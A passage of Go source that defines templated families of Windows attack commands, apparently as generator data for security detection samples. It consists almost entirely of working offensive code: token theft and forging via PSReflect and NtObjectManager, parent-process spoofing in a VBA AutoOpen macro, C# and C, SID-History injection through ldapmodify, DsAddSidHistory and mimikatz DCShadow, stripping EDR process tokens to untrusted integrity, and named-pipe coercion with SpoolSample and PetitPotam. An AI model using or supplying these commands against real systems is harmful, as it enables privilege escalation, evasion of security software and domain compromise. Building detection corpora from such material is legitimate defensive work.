$Types = $FunctionDefinitions | Add-Win32Type -Module $Mod -Namespace 'Win32'
$Advapi32 = $Types['advapi32']
$Advapi32::OpenProcessToken((Get-Process -Id {{pid}}).Handle, 0x0002, [ref]$hTok)
$Advapi32::DuplicateTokenEx($hTok, 0x02000000, [IntPtr]::Zero, 2, 1, [ref]$hDup)
$Advapi32::ImpersonateLoggedOnUser($hDup)`,
			`$FunctionDefinitions = @(
  (func advapi32 CreateProcessWithTokenW ([Bool]) @([IntPtr], [UInt32], [String], [String], [UInt32], [IntPtr], [String], [IntPtr], [IntPtr]) -SetLastError -Charset Unicode),
  (func advapi32 {{tokapi}} ([Bool]) @([IntPtr]) -SetLastError)
)
$Types = $FunctionDefinitions | Add-Win32Type -Module (New-InMemoryModule -ModuleName {{word}}) -Namespace Win32
$Types['advapi32']::CreateProcessWithTokenW($hDup, 0, $null, "{{shell}}", 0, [IntPtr]::Zero, $null, $si, $pi)`,
			`$Advapi32::DuplicateTokenEx($hTok, 0x02000000, [IntPtr]::Zero, 2, 1, [ref]$hDup); $Advapi32::CreateProcessWithTokenW($hDup, 0, "{{shell}}", $null, 0, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)  # PSReflect, pid {{pid}}`,
			`$Advapi32::OpenProcessToken((Get-Process {{tksysproc}})[0].Handle, 0x0002, [ref]$hTok); $Advapi32::DuplicateTokenEx($hTok, 0x02000000, [IntPtr]::Zero, 2, 1, [ref]$hDup); $Advapi32::ImpersonateLoggedOnUser($hDup); Get-ChildItem \\{{host}}\c$`),
		fam("token/ntobjectmanager-forge-token", c, "windows", PS,
			`$t = New-NtToken -User {{sid}} -Groups "S-1-5-32-544","S-1-16-16384" -Privileges SeDebugPrivilege,SeImpersonatePrivilege -TokenType Primary; New-Win32Process {{shell}} -Token $t`,
			`Enable-NtTokenPrivilege SeCreateTokenPrivilege; $tok = New-NtToken -User "S-1-5-18" -Groups "S-1-5-32-544" -IntegrityLevel System; Invoke-NtToken $tok { {{payload}} }`,
			`$tok = New-NtToken -User {{domain}}\{{user}} -Groups {{sid}} -AuthenticationId (Get-NtLogonSession)[0].LogonId; Invoke-NtToken $tok { Get-ChildItem \\{{host}}\c$ }`,
			`Import-Module NtObjectManager; $t = Get-NtToken -Service {{System|LocalService|NetworkService}}; New-Win32Process -CommandLine "{{shell}}" -Token $t`,
			`$tok = Get-NtToken -Primary; $dup = Copy-NtToken -Token $tok -Primary; Set-NtTokenGroup -Token $dup -Sid {{sid}} -Attribute Enabled; New-Win32Process {{shell}} -Token $dup`),
		fam("token/ntobjectmanager-thread-impersonation", c, "windows", PS,
			`$th = Get-NtThread -ProcessId (Get-Process {{tksysproc}})[0].Id | Select-Object -First 1; $imp = (Get-NtThread -Current -PseudoHandle).ImpersonateThread($th); {{payload}}`,
			`$t = Get-NtToken -Impersonation -ThreadId {{pid}} -Duplicate; Invoke-NtToken $t { Start-Process {{shell}} }`,
			`Use-NtObject($t = Get-NtToken -ProcessId {{pid}} -Duplicate -TokenType Impersonation) { Invoke-NtToken $t { {{payload}} } }`,
			`$tok = Get-NtToken -Duplicate -ProcessId (Get-NtProcess -Name {{tksysproc}}.exe | Select -First 1).ProcessId -ImpersonationLevel Impersonation; $ctx = $tok.Impersonate(); Get-ChildItem \\{{host}}\c$`,
			`Set-NtThreadToken -Thread (Get-NtThread -Current) -Token (Get-NtToken -ProcessId {{pid}} -Duplicate -TokenType Impersonation)`),
		fam("token/ntobjectmanager-s4u-logon", c, "windows", PS,
			`$t = Get-NtToken -S4U -User {{user}} -Domain {{domain}}; Invoke-NtToken $t { {{payload}} }`,
			`$t = Get-NtToken -S4U -User Administrator -Domain {{domain}} -LogonType {{Batch|Network|Interactive}}; New-Win32Process {{shell}} -Token $t`,
			`Enable-NtTokenPrivilege SeTcbPrivilege; $s4u = Get-NtToken -S4U -User {{user}} -Domain {{domain}} -AdditionalGroups {{sid}}; Invoke-NtToken $s4u { Start-Process {{shell}} }`,
			`$tok = Get-NtToken -Logon -User {{user}} -Domain {{domain}} -Password '{{pass}}' -LogonType {{Batch|Interactive|NewCredentials}}; New-Win32Process -CommandLine "{{payload}}" -Token $tok`,
			`Invoke-NtToken (Get-NtToken -S4U -User {{user}} -Domain {{domain}}) { New-Item -Path \\{{host}}\c$\{{word}} -ItemType Directory }`),

		// ---- PPID spoofing ----
		fam("token/ppid-spoof-vba", c, "windows", Raw,
			`Private Declare PtrSafe Function UpdateProcThreadAttribute Lib "kernel32.dll" (ByVal lpAttributeList As LongPtr, ByVal dwFlags As Long, ByVal Attribute As LongPtr, ByRef lpValue As LongPtr, ByVal cbSize As LongPtr, ByVal lpPreviousValue As LongPtr, ByVal lpReturnSize As LongPtr) As Boolean
Const PROC_THREAD_ATTRIBUTE_PARENT_PROCESS = &H20000
Const EXTENDED_STARTUPINFO_PRESENT = &H80000
hParent = OpenProcess(PROCESS_ALL_ACCESS, False, {{pid}})
result = UpdateProcThreadAttribute(si.lpAttributeList, 0, PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, hParent, LenB(hParent), 0, 0)
result = CreateProcess(vbNullString, "{{shell}}", ByVal 0&, ByVal 0&, 1&, EXTENDED_STARTUPINFO_PRESENT, ByVal 0&, vbNullString, si, pi)`,
			`Sub AutoOpen()
    Set objWMI = GetObject("winmgmts:\\.\root\cimv2")
    For Each p In objWMI.ExecQuery("Select * from Win32_Process where Name='{{parentproc}}'")
        parentPid = p.ProcessId
    Next
    hParent = OpenProcess(&H1FFFFF, 0, parentPid)
    InitializeProcThreadAttributeList si.lpAttributeList, 1, 0, size
    UpdateProcThreadAttribute si.lpAttributeList, 0, &H20000, hParent, 8, 0, 0
    CreateProcessA vbNullString, "{{payload}}", 0, 0, False, &H80000, 0, vbNullString, si, pi
End Sub`,
			`' spawn under {{parentproc}} to break the WINWORD.EXE -> child chain
InitializeProcThreadAttributeList ByVal 0&, 1, 0, lSize
UpdateProcThreadAttribute sInfoEx.lpAttributeList, 0, PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, hParent, LenB(hParent), 0, 0
CreateProcess "{{sys32}}\{{word}}.exe", vbNullString, 0, 0, False, EXTENDED_STARTUPINFO_PRESENT Or CREATE_SUSPENDED, 0, vbNullString, sInfoEx, pInfo`,
			`UpdateProcThreadAttribute si.lpAttributeList, 0, &H20000, hParent, LenB(hParent), 0, 0: CreateProcessA vbNullString, "{{payload}}", 0, 0, False, &H80000, 0, vbNullString, si, pi ' parent {{parentproc}}`),
		fam("token/ppid-spoof-csharp-program", c, "windows", Script,
			`const int PROC_THREAD_ATTRIBUTE_PARENT_PROCESS = 0x00020000;
const uint EXTENDED_STARTUPINFO_PRESENT = 0x00080000;
var siEx = new STARTUPINFOEX();
IntPtr lpSize = IntPtr.Zero;
InitializeProcThreadAttributeList(IntPtr.Zero, 1, 0, ref lpSize);
siEx.lpAttributeList = Marshal.AllocHGlobal(lpSize);
InitializeProcThreadAttributeList(siEx.lpAttributeList, 1, 0, ref lpSize);
IntPtr hParent = Process.GetProcessesByName("{{parentproc}}".Replace(".exe", ""))[0].Handle;
IntPtr lpValue = Marshal.AllocHGlobal(IntPtr.Size); Marshal.WriteIntPtr(lpValue, hParent);
UpdateProcThreadAttribute(siEx.lpAttributeList, 0, (IntPtr)PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, lpValue, (IntPtr)IntPtr.Size, IntPtr.Zero, IntPtr.Zero);
CreateProcess(null, @"{{shell}}", ref pSec, ref tSec, false, EXTENDED_STARTUPINFO_PRESENT | CREATE_NO_WINDOW, IntPtr.Zero, null, ref siEx, out pInfo);`,
			`public static void SpawnWithParent(int ppid, string cmd) {
    var si = new STARTUPINFOEX(); si.StartupInfo.cb = Marshal.SizeOf(si);
    IntPtr size = IntPtr.Zero;
    InitializeProcThreadAttributeList(IntPtr.Zero, 1, 0, ref size);
    si.lpAttributeList = Marshal.AllocHGlobal(size);
    InitializeProcThreadAttributeList(si.lpAttributeList, 1, 0, ref size);
    IntPtr parent = OpenProcess(0x0080, false, ppid);
    IntPtr p = Marshal.AllocHGlobal(IntPtr.Size); Marshal.WriteIntPtr(p, parent);
    UpdateProcThreadAttribute(si.lpAttributeList, 0, (IntPtr)0x00020000, p, (IntPtr)IntPtr.Size, IntPtr.Zero, IntPtr.Zero);
    CreateProcess(null, cmd, IntPtr.Zero, IntPtr.Zero, false, 0x00080000, IntPtr.Zero, null, ref si, out var pi);
}
SpawnWithParent({{pid}}, "{{payload}}");`,
			`[PPID.Spoofer]::Start({{ppid}}, "{{shell}}")
# Spoofer: InitializeProcThreadAttributeList + UpdateProcThreadAttribute(PROC_THREAD_ATTRIBUTE_PARENT_PROCESS) + CreateProcess(EXTENDED_STARTUPINFO_PRESENT)`,
			`UpdateProcThreadAttribute(si.lpAttributeList, 0, (IntPtr)0x00020000, lpParent, (IntPtr)IntPtr.Size, IntPtr.Zero, IntPtr.Zero); CreateProcess(null, @"{{shell}}", IntPtr.Zero, IntPtr.Zero, false, 0x00080000, IntPtr.Zero, null, ref si, out pi); // ppid {{pid}}`),
		fam("token/ppid-spoof-c-source", c, "windows", Raw,
			`STARTUPINFOEXA si = { 0 }; PROCESS_INFORMATION pi = { 0 }; SIZE_T size = 0;
HANDLE hParent = OpenProcess(PROCESS_CREATE_PROCESS, FALSE, {{pid}});
InitializeProcThreadAttributeList(NULL, 1, 0, &size);
si.lpAttributeList = (LPPROC_THREAD_ATTRIBUTE_LIST)HeapAlloc(GetProcessHeap(), 0, size);
InitializeProcThreadAttributeList(si.lpAttributeList, 1, 0, &size);
UpdateProcThreadAttribute(si.lpAttributeList, 0, PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, &hParent, sizeof(HANDLE), NULL, NULL);
si.StartupInfo.cb = sizeof(STARTUPINFOEXA);
CreateProcessA(NULL, (LPSTR)"{{shell}}", NULL, NULL, FALSE, EXTENDED_STARTUPINFO_PRESENT, NULL, NULL, &si.StartupInfo, &pi);`,
			`DWORD ppid = FindPid(L"{{parentproc}}");
HANDLE hp = OpenProcess(PROCESS_ALL_ACCESS, FALSE, ppid);
UpdateProcThreadAttribute(siex.lpAttributeList, 0, PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, &hp, sizeof(hp), NULL, NULL);
CreateProcessW(L"{{sys32}}\\{{word}}.exe", NULL, NULL, NULL, FALSE, EXTENDED_STARTUPINFO_PRESENT | CREATE_SUSPENDED, NULL, NULL, (LPSTARTUPINFOW)&siex, &pi);`,
			`// spoof parent to {{parentproc}} ({{pid}}) so the SYSTEM token is inherited
UpdateProcThreadAttribute(attrList, 0, PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, &hParent, sizeof(HANDLE), NULL, NULL);
CreateProcessW(NULL, L"{{payload}}", NULL, NULL, TRUE, EXTENDED_STARTUPINFO_PRESENT | CREATE_NEW_CONSOLE, NULL, NULL, &six.StartupInfo, &pi);`,
			`UpdateProcThreadAttribute(si.lpAttributeList, 0, PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, &hParent, sizeof(HANDLE), NULL, NULL); CreateProcessA(NULL, (LPSTR)"{{shell}}", NULL, NULL, FALSE, EXTENDED_STARTUPINFO_PRESENT | CREATE_NO_WINDOW, NULL, NULL, &si.StartupInfo, &pi); // parent pid {{pid}}`),
		fam("token/ppid-spoof-ntobject", c, "windows", PS,
			`New-Win32Process -CommandLine "{{shell}}" -ParentProcess (Get-NtProcess -ProcessId {{pid}})`,
			`$parent = Get-NtProcess -Name {{parentproc}} | Select-Object -First 1; New-Win32Process "{{payload}}" -ParentProcess $parent -CreationFlags NewConsole`,
			`Import-Module NtObjectManager; New-Win32Process -CommandLine "{{shell}}" -ParentProcess (Get-NtProcess -ProcessId {{ppid}} -Access CreateProcess)`,
			`$cfg = New-Win32ProcessConfig -CommandLine "{{shell}}"; $cfg.ParentProcess = Get-NtProcess -ProcessId {{pid}}; New-Win32Process -Config $cfg`,
			`Use-NtObject($p = Get-NtProcess -Name {{parentproc}} -Access CreateProcess) { New-Win32Process "{{payload}}" -ParentProcess $p }`),

		// ---- SID-History injection ----
		fam("token/sidhistory-linux-ldap-tools", c, "windows", Sh,
			`bloodyAD --host {{ip}} -d {{domain}} -u {{user}} -p '{{pass}}' set object {{user2}} sIDHistory -v {{sid}}`,
			`echo -e "dn: CN={{user}},CN=Users,DC={{word}},DC=local\nchangetype: modify\nadd: sIDHistory\nsIDHistory: {{sid}}" | ldapmodify -H ldap://{{host}} -D "{{user2}}@{{domain}}" -w '{{pass}}'`,
			`ldapmodify -x -H ldaps://{{ip}} -D "CN={{user2}},CN=Users,DC={{word}},DC=local" -w '{{pass}}' -f sidhistory_{{user}}.ldif # add: sIDHistory {{sid}}`,
			`python3 sidhistory.py {{domain}}/{{user2}}:'{{pass}}'@{{ip}} -target {{user}} -sid {{sid}}`,
			`printf 'dn: CN={{user}},OU=Staff,DC={{word}},DC=com\nchangetype: modify\nadd: sIDHistory\nsIDHistory: {{sid}}\n' > /tmp/{{word}}.ldif && ldapmodify -Y GSSAPI -H ldap://{{host}} -f /tmp/{{word}}.ldif`),
		fam("token/sidhistory-dsaddsidhistory-api", c, "windows", Script,
			`[DllImport("ntdsapi.dll", CharSet = CharSet.Unicode)]
static extern uint DsAddSidHistory(IntPtr hDS, uint Flags, string SrcDomain, string SrcPrincipal, string SrcDomainController, IntPtr SrcDomainCreds, string DstDomain, string DstPrincipal);
DsBind("{{host}}", "{{domain}}", out IntPtr hDs);
uint rc = DsAddSidHistory(hDs, 0, "{{word}}.local", "{{user}}", null, IntPtr.Zero, "{{domain}}", "{{user2}}");`,
			`$sig = '[DllImport("ntdsapi.dll", CharSet=CharSet.Unicode)] public static extern uint DsAddSidHistory(IntPtr h, uint f, string sd, string sp, string sdc, IntPtr c, string dd, string dp); [DllImport("ntdsapi.dll", CharSet=CharSet.Unicode)] public static extern uint DsBind(string dc, string dom, out IntPtr h);'
$ds = Add-Type -MemberDefinition $sig -Name S{{n}} -Namespace {{word}} -PassThru
$ds::DsBind("{{host}}", "{{domain}}", [ref]$h)
$ds::DsAddSidHistory($h, 0, "{{word}}", "Domain Admins", $null, [IntPtr]::Zero, "{{domain}}", "{{user}}")`,
			`// DsAddSidHistory: copy the SID of {{word}}\Administrator into the sIDHistory of {{user}}
DWORD err = DsAddSidHistoryW(hDs, 0, L"{{word}}", L"Administrator", NULL, NULL, L"{{domain}}", L"{{user}}");`,
			`[SidHist]::DsBind("{{host}}", "{{domain}}", [ref]$hDs); [SidHist]::DsAddSidHistory($hDs, 0, "{{word}}", "{{user}}", $null, [IntPtr]::Zero, "{{domain}}", "{{user2}}")`),
		fam("token/sidhistory-adsi-ldap", c, "windows", PS,
			`$sid = New-Object Security.Principal.SecurityIdentifier "{{sid}}"; $b = New-Object byte[] $sid.BinaryLength; $sid.GetBinaryForm($b, 0); $u = [ADSI]"LDAP://CN={{user}},CN=Users,DC={{word}},DC=local"; $u.PutEx(3, "sIDHistory", @(,$b)); $u.SetInfo()`,
			`$u = [ADSI]"LDAP://{{host}}/CN={{user}},OU=Users,DC={{word}},DC=com"; $u.PutEx(3, "sIDHistory", @($sidBytes)); $u.SetInfo()`,
			`Set-ADUser {{user}} -Replace @{ sIDHistory = '{{sid}}' } -Server {{host}}`,
			`Get-ADUser {{user}} | Set-ADUser -Add @{ sIDHistory = '{{sid}}' }`,
			`Set-ADObject -Identity (Get-ADUser {{user}}).DistinguishedName -Replace @{ SIDHistory = [Security.Principal.SecurityIdentifier]'{{sid}}' }`,
			`$e = New-Object DirectoryServices.DirectoryEntry("LDAP://CN={{user}},CN=Users,DC={{word}},DC=local"); $e.Properties["sIDHistory"].Add($sidBin); $e.CommitChanges()`),
		fam("token/sidhistory-dcshadow", c, "windows", Cmd,
			`{{mimikatz}} "lsadump::dcshadow /object:{{user}} /attribute:sIDHistory /value:{{sid}}" exit`,
			`{{mimikatz}} "!+" "!processtoken" "lsadump::dcshadow /object:CN={{user}},CN=Users,DC={{word}},DC=local /attribute:SIDHistory /value:{{sid}}" exit`,
			`{{mimikatz}} "lsadump::dcshadow /object:{{user}} /attribute:sidHistory /value:{{sid}}" "lsadump::dcshadow /push" exit`,
			`{{mimikatz}} "lsadump::dcshadow /object:{{user}} /attribute:primaryGroupID /value:512" "lsadump::dcshadow /object:{{user}} /attribute:sIDHistory /value:{{sid}}" exit`),

		// ---- Token manipulation aimed at security software ----
		fam("token/edr-token-sandbox-tools", c, "windows", Cmd,
			`TokenStomp{{|.exe}} --pid {{pid}} --integrity untrusted --strip`,
			`Sandboxer.exe -p {{pid}} -i untrusted`,
			`DefenderSandbox.exe{{| -p {{pid}}}}`,
			`EDRSandbox.exe --process {{edrproc}}`,
			`SandboxDefender.exe --pid {{pid}} --remove-privileges`,
			`{{wtemp}}\TokenStomp.exe {{edrproc}} untrusted`,
			`for /f "tokens=2" %p in ('tasklist ^| findstr /i {{edrproc}}') do {{wtemp}}\TokenStomp.exe --pid %p --integrity untrusted`,
			`StripToken.exe -n {{edrproc}} -all`),
		fam("token/edr-token-bof", c, "windows", Raw,
			`inline-execute {{/opt/bofs|/home/kali/bofs}}/tokenstomp.x64.o {{pid}}`,
			`{{tkprompt}}sandbox_edr {{edrproc}}`,
			`{{tkprompt}}tokenstomp {{pid}}{{| untrusted}}`,
			`{{tkprompt}}token_sandbox {{pid}}`,
			`{{tkprompt}}strip_privs {{pid}} {{amp}} set_integrity {{pid}} untrusted`,
			`coff-loader /opt/bofs/sandbox_edr.o {{edrproc}}`),
		fam("token/ntobjectmanager-edr-untrusted", c, "windows", PS,
			`$t = Get-NtToken -ProcessId (Get-Process {{tkedrp}}).Id -Access AdjustDefault,AdjustPrivileges,Query; Set-NtTokenIntegrityLevel -Token $t -IntegrityLevel Untrusted`,
			`Enable-NtTokenPrivilege SeDebugPrivilege; $t = Get-NtToken -ProcessId (Get-Process {{tkedrp}}).Id -Access AdjustPrivileges; Remove-NtTokenPrivilege -Token $t -Privileges (Get-NtTokenPrivilege -Token $t).Name`,
			`$p = Get-NtProcess -Name {{tkedrp}}.exe -Access QueryLimitedInformation; $t = Get-NtToken -Process $p -Access AdjustDefault; $t.SetIntegrityLevel("Untrusted")`,
			`Use-NtObject($t = Get-NtToken -ProcessId {{pid}} -Access AdjustPrivileges,AdjustDefault) { Set-NtTokenPrivilege -Token $t -Privileges SeDebugPrivilege,SeChangeNotifyPrivilege,SeImpersonatePrivilege -Attributes Removed; Set-NtTokenIntegrityLevel -Token $t Untrusted }`,
			`Invoke-TokenSandbox -ProcessName {{tkedrp}}`),
		fam("token/edr-token-privilege-removal-csharp", c, "windows", Script,
			`var p = Process.GetProcessesByName("{{tkedrp}}")[0];
IntPtr hProc = OpenProcess(PROCESS_QUERY_LIMITED_INFORMATION, false, p.Id);
OpenProcessToken(hProc, TOKEN_ALL_ACCESS, out IntPtr hTok);
foreach (var name in new[] { "SeDebugPrivilege", "SeChangeNotifyPrivilege", "SeTcbPrivilege", "SeImpersonatePrivilege", "SeLoadDriverPrivilege" }) {
    LookupPrivilegeValue(null, name, out LUID luid);
    var tp = new TOKEN_PRIVILEGES { PrivilegeCount = 1, Luid = luid, Attributes = SE_PRIVILEGE_REMOVED };
    AdjustTokenPrivileges(hTok, false, ref tp, 0, IntPtr.Zero, IntPtr.Zero);
}
ConvertStringSidToSid("S-1-16-0", out IntPtr untrusted);
SetTokenInformation(hTok, TokenIntegrityLevel, ref tml, Marshal.SizeOf(tml) + GetLengthSid(untrusted));`,
			`$edr = Get-Process {{tkedrp}}
[Tok]::OpenProcessToken([Tok]::OpenProcess(0x1000, $false, $edr.Id), 0xF01FF, [ref]$h) | Out-Null
foreach ($priv in "SeDebugPrivilege","SeBackupPrivilege","SeTcbPrivilege","SeImpersonatePrivilege") { [Tok]::RemovePrivilege($h, $priv) }
[Tok]::SetIntegrity($h, "S-1-16-0")   # Untrusted mandatory level`,
			`// set {{tkedrp}}.exe (pid {{pid}}) token to untrusted integrity
TOKEN_MANDATORY_LABEL tml = { 0 };
ConvertStringSidToSidW(L"S-1-16-0", &pSid);
tml.Label.Sid = pSid; tml.Label.Attributes = SE_GROUP_INTEGRITY;
SetTokenInformation(hToken, TokenIntegrityLevel, &tml, sizeof(tml) + GetLengthSid(pSid));`,
			`[Tok]::SetIntegrity((Get-Process {{tkedrp}}).Id, "S-1-16-0"); [Tok]::RemoveAllPrivileges((Get-Process {{tkedrp}}).Id)`),

		// ---- make-token with built-ins ----
		fam("token/runas-netonly-powershell", c, "windows", PS,
			`Start-Process runas.exe -ArgumentList '/netonly /user:{{domain}}\{{user}} {{shell}}'`,
			`& runas.exe /netonly /user:{{domain}}\{{user}} "powershell.exe -nop{{| -w hidden}}"`,
			`Start-Process -FilePath runas -ArgumentList "/netonly","/user:{{domain}}\{{user}}","{{shell}}"`,
			`cmd /c "runas /netonly /user:{{user}}@{{domain}} {{shell}}"`,
			`Start-Process runas -ArgumentList "/netonly /user:{{domain}}\{{user}} ""mmc.exe dsa.msc /domain={{domain}}""" -Wait`),

		// ---- Local coercion to an attacker pipe (manual potato) ----
		fam("token/local-coercion-to-pipe", c, "windows", Cmd,
			`start /b {{wtemp}}\{{rndexe}} \\.\pipe\{{tkpipe}}\pipe\spoolss {{amp}} SpoolSample.exe {{host}} {{host}}/pipe/{{tkpipe}}`,
			`SpoolSample.exe localhost localhost/pipe/{{tkpipe}}`,
			`PetitPotam.exe localhost/pipe/{{tkpipe}} localhost`,
			`{{wtemp}}\PipeServer.exe -p {{tkpipe}} -c "{{shell}}" {{amp}} PetitPotam.exe 127.0.0.1/pipe/{{tkpipe}} 127.0.0.1`,
			`MS-RPRN.exe \\{{host}} \\{{host}}/pipe/{{tkpipe}} {{amp}} {{wtemp}}\{{rndexe}} -impersonate {{tkpipe}}`,
			`SharpSpoolTrigger.exe 127.0.0.1 {{host}}/pipe/{{tkpipe}}`),
	}
}
